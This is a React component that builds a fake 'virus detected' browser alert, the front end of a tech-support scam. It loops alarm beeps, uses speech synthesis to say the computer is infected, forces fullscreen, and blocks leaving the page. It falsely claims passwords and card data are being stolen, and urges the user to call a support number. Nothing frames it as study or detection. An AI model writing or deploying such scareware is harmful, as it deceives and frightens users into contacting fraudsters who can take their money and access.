import { useRef, useEffect } from "react";
const NUMBER = "+1 (000) 000-0000";
export function Alert() {
  const ctx = useRef(null);
  useEffect(() => {
    const beep = () => {
      ctx.current = ctx.current || new AudioContext();
      const o = ctx.current.createOscillator();
      o.frequency.value = 880;
      o.connect(ctx.current.destination);
      o.start();
      o.stop(ctx.current.currentTime + 0.4);
    };
    const t = setInterval(beep, 900);
    speechSynthesis.speak(new SpeechSynthesisUtterance("Warning. Your computer is infected. Call support immediately."));
    document.documentElement.requestFullscreen().catch(() => {});
    window.onbeforeunload = () => "stay";
    return () => clearInterval(t);
  }, []);
  return <div><h1>Virus detected: Trojan</h1><p>Your passwords, photos and card data are being stolen.</p><a href={"tel:" + NUMBER}>Call {NUMBER}</a></div>;
}
